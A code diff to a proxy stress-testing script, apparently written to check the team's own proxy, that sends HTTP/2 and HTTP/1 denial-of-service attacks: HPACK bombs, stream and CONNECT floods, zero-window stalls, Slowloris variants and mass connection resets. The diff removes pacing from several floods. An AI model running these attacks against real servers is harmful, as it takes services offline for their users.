@@ -1,8 +1,9 @@
 """One attack on a proxy: attacker.py ATTACK HOST PORT SECONDS [CA [CERTIFICATE KEY]]. Prints a JSON object of what the proxy answered.
 
 A process of its own at the lowest priority, so that on one or two cores it is the attack that competes with the victim
-and not the attacker's Python; every attack is paced by `pause`. With CA the attack goes through TLS,
-with CERTIFICATE and KEY through mutual TLS.
+and not the attacker's Python. Attacks that cost a proxy's CPU go as fast as this process can send; the others, which a
+limit ends after so many frames, are paced by `pause`. With CA the attack goes through TLS, with CERTIFICATE and KEY
+through mutual TLS.
 """
 
 import collections
@@ -119,13 +120,18 @@ class Link:
 class Attack:
     def __init__(self, address, seconds, authority=None, *certificate):
         self.address, self.links, self.seen, self.bytes = address, [], collections.Counter(), 0
-        self.end = time.monotonic() + seconds
+        self.seconds = seconds
+        self.begin()
         self.context = None
         if authority:
             self.context = ssl.create_default_context(cafile=authority)
             self.context.check_hostname = False
         if certificate:
             self.context.load_cert_chain(*certificate)
+
+    def begin(self):
+        """Its time runs from here: called again by attacks that take long to prepare."""
+        self.end = time.monotonic() + self.seconds
 
     @property
     def is_over(self):
@@ -225,16 +231,14 @@ def hpack_bomb(attack):
     link.send(frame(HEADERS, 5, 1, GET + entry))
     bomb = GET + b"\xbe" * 16000
     stream = 3
-    # Slow enough for a debug build, which takes milliseconds for a bomb.
     while not attack.is_over:
         link.send(frame(HEADERS, 5, stream, bomb))
         stream += 2
-        attack.pause(0.1)
 
 
 def cookie_crumbs(attack):
     crumbs = GET + b"\x60\x01a" + b"\xbe" * 15000
-    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, crumbs), batch=1, pause=0.1)
+    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, crumbs), batch=4, pause=0)
 
 
 def table_flapping(attack):
@@ -248,7 +252,7 @@ def empty_names(attack):
 
 def refused_streams(attack):
     stalled = get(b"/stall")
-    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, stalled), batch=100)
+    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, stalled), batch=100, pause=0)
 
 
 def tiny_windows(attack):
@@ -259,9 +263,9 @@ def tiny_windows(attack):
 
 
 def window_stall(attack):
-    """Windows of 0, held for ever, on 400 answers of 64 KiB."""
+    """Windows of 0, held for ever, on 400 answers of which 64 KiB are read ahead."""
     link = Link(attack, setting(4, 0))
-    link.send(b"".join(frame(HEADERS, 5, n * 2 + 1, get(b"/large")) for n in range(400)))
+    link.send(b"".join(frame(HEADERS, 5, n * 2 + 1, get(b"/larger")) for n in range(400)))
     while not attack.is_over:
         link.send(frame(PING, 0, 0, b"tick-tac"))
         attack.pause(0.05)
@@ -273,6 +277,7 @@ def stalled_uploads(attack):
     numbers = range(1, 9, 2)
     for link in links:
         link.send(b"".join(frame(HEADERS, 4, n, b"\x83" + get(b"/stall")[1:]) for n in numbers))
+    attack.begin()
     # Four frames a time; the first 65,535 bytes fit any window.
     for _ in range(16):
         for link in list(links):
@@ -292,17 +297,17 @@ def stalled_uploads(attack):
 def unread_answers(attack):
     """Requests whose answers no window holds up, and nobody reads."""
     link = Link(attack, receive_buffer=8192, reads=False)
-    streams(link, attack, lambda n: frame(HEADERS, 5, n, get(b"/header")), batch=6)
+    streams(link, attack, lambda n: frame(HEADERS, 5, n, get(b"/header")), batch=100, pause=0)
 
 
 def stream_churn(attack):
-    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, GET), batch=10)
+    streams(Link(attack), attack, lambda n: frame(HEADERS, 5, n, GET), batch=100, pause=0)
 
 
 def connect_churn(attack):
     """CONNECT, which the listener answers itself: the cheapest request there is."""
     block = b"\x02\x07CONNECT\x01\x05a:443"
-    streams(Link(attack), attack, lambda n: frame(HEADERS, 4, n, block), batch=200, pause=0.05)
+    streams(Link(attack), attack, lambda n: frame(HEADERS, 4, n, block), batch=1000, pause=0)
 
 
 # MARK: HTTP/1
@@ -335,10 +340,11 @@ def long_head(attack):
 
 
 def slow_heads(attack):
-    """Slowloris in four tongues: a head, a preface, a HEADERS frame and a field block, a byte now and then."""
+    """Slowloris in five tongues: a head, a preface, SETTINGS, a HEADERS frame and a field block, a byte now and then."""
     links = []
-    for _ in range(25):
+    for _ in range(20):
         links.append((Link(attack, http2=False), b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"a" * 100))
+        links.append((Link(attack, http2=False), PREFACE + frame(SETTINGS)))
         link = Link(attack, http2=False)
         link.send(PREFACE)
         links.append((link, frame(SETTINGS, 0, 0, setting(4, 70000) * 20)))
@@ -357,6 +363,35 @@ def slow_heads(attack):
         at += 1
         attack.pause(0.5)
     attack.seen["left"] = len(links)
+
+
+# MARK: Leaving at once
+
+def leave(attack, data, ending, http2):
+    """Asks for much and is gone: by closing, by a reset, or by closing the sending side only, which leaves 50 of them."""
+    while not attack.is_over and len(attack.links) < 50:
+        link = Link(attack, http2=http2)
+        link.send(data)
+        if ending == "half_close":
+            link.raw.shutdown(socket.SHUT_WR)
+            continue
+        if ending == "close":
+            link.raw.close()
+        attack.vanish()
+
+
+def requests_then(ending):
+    request = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"
+    return lambda attack: leave(attack, request * 100, ending, http2=False)
+
+
+def streams_then(ending):
+    data = b"".join(frame(HEADERS, 5, n, GET) for n in range(1, 200, 2))
+    return lambda attack: leave(attack, data, ending, http2=True)
+
+
+requests_half_close, requests_close, requests_reset = map(requests_then, ("half_close", "close", "reset"))
+streams_half_close, streams_close, streams_reset = map(streams_then, ("half_close", "close", "reset"))
 
 
 # MARK: TLS
@@ -407,6 +442,8 @@ def harmless(attack):
 def main():
     name, host, port, seconds, *credentials = sys.argv[1:]
     os.nice(19)
+    # Its waking up preempts nobody.
+    os.sched_setscheduler(0, os.SCHED_BATCH, os.sched_param(0))
     attack = Attack((host, int(port)), float(seconds), *credentials)
     one = globals()[name]
     lasting = {"slow_heads", "left_handshakes", "stalled_uploads"}
